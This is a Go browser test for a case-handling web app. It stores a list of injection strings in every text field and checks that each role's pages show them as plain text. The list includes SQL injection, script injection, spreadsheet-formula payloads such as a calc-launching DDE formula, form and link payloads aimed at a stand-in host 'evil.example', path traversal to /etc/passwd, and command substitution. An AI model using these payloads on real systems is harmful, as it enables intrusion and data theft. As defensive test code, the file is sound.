package browser

import (
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
)

// zoo are texts that would do something if a page, a database or a sheet took
// them for more than texts.
var zoo = []string{
	`' OR '1'='1`, `'; DROP TABLE cases;--`, `1) UNION SELECT NULL--`, `%' ESCAPE '\`, `%_%_%`, `$$;$$`, `\'`, `pg_sleep(10)`, `||(select sqlite_version())`,
	`"><script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`, `javascript:alert(1)`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `<a href="jav&#x09;ascript:alert(1)">`, `</textarea><script>alert(1)</script>`,
	`</title><script>alert(1)</script>`, `{{7*7}} {{.}} ${7*7} <%= 7*7 %> #{7*7} {{template "x"}}`, `--><!--`, `<base href=//evil.example>`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`, `<style>@import'//evil.example'</style>`, `<form action=//evil.example><button>x</button></form>`,
	`<img src='//evil.example?`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`=HYPERLINK("http://evil.example","x")`, `=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1)`, `＝1+1`, `;=1+1`, `"=1+1`,
	`x%0d%0aSet-Cookie: a=b`, "x\nlevel=error msg=forged", `../../etc/passwd`, `..%2f`, `..\\..\\`, `/etc/passwd`, `C:\\x`, `file:///etc/passwd`,
	`\\\\host\\share`, `CON`, `a.pdf:stream`, `$(id)`, "`id`", `| id`, `*)(uid=*))(|(uid=*`, `(a+)+$` + strings.Repeat("a", 50) + `!`,
	strings.Repeat("%", 5000), strings.Repeat("ก", 5000),
}

// TestStoredTextStaysText stores the zoo in every free text, and looks at every
// page of every role that shows it.
func TestStoredTextStaysText(t *testing.T) {
	s := stageOf(t)
	all := strings.Join(zoo[:len(zoo)-2], "\n\n")
	c := s.file(fields{
		"kind": "question", "details": all,
		"subject": fields{"title": zoo[10], "given_name": zoo[11], "family_name": zoo[15], "phone": "081 234 5678"},
	})
	head := s.officer("head")
	head.do(c, "assign", fields{"assignee": head.id("officer"), "reason": zoo[9]})
	about := s.file(fields{"kind": "complaint", "details": all, "about_officers": all})
	holder := officer{s.desk, ""}
	for _, text := range zoo {
		holder.api(http.MethodPost, "/v1/requests/"+c.reference+"/messages", fields{"text": text}, "Authorization", "Receipt "+c.receipt)
	}
	owner := s.officer("officer")
	owner.do(c, "note", fields{"message": all})
	owner.do(c, "write", fields{"message": all})
	owner.do(c, "ask", fields{"items": []fields{{"code": "a", "text": zoo[9]}, {"code": "b", "text": zoo[10]}}})

	named := 0
	look := func(t *testing.T, b *tab, texts []string) {
		t.Helper()
		b.report("what ran", b.ran())
		b.report("sideways", b.sideways())
		shown := eval[[]string](b, `[...document.querySelectorAll('bdi')].map(e => e.textContent)`)
		for _, text := range texts {
			if !slices.Contains(shown, text) {
				t.Errorf("%s does not show %.80q as it was typed", b.path(), text)
			}
		}
		if eval[bool](b, `!!document.querySelector('main :is(bdi, .said) *:not(bdi)')`) {
			t.Errorf("%s has marks inside of a text", b.path())
		}
	}
	for _, lang := range languages {
		t.Run("the citizen"+lang, func(t *testing.T) {
			b := newTab(t, s.base)
			b.width(phone)
			b.track(lang, c)
			look(t, b, append(slices.Clone(zoo), all))
			b.press("form[action$=withdraw] button[type=submit]")
			look(t, b, nil)
		})
		for _, role := range []string{"officer", "head", "intake", "dpo", "auditor", "approver", "admin"} {
			t.Run(role+lang, func(t *testing.T) {
				b := newTab(t, s.base)
				b.width(phone)
				b.logIn(lang, email(role))
				for _, path := range []string{"/desk", "/desk/c/" + c.reference, "/desk/c/" + c.reference + "/trail", "/desk/c/" + c.reference + "/answer"} {
					b.open(lang + path)
					var texts []string
					if role == "officer" && path == "/desk/c/"+c.reference {
						texts = append(slices.Clone(zoo), all)
					}
					look(t, b, texts)
				}
				b.open(lang + "/desk/c/" + about.reference + "/tie")
				look(t, b, nil)
				if strings.Contains(b.text(), zoo[1]) {
					named++
				}
				if role == "officer" {
					b.open(fmt.Sprintf("%s/desk/c/%s", lang, c.reference))
					b.press("form[action$=people] button")
					b.says(zoo[11], zoo[15])
					look(t, b, zoo)
				}
			})
		}
	}
	if named == 0 {
		t.Error("nobody was shown whom a complaint is about")
	}
}
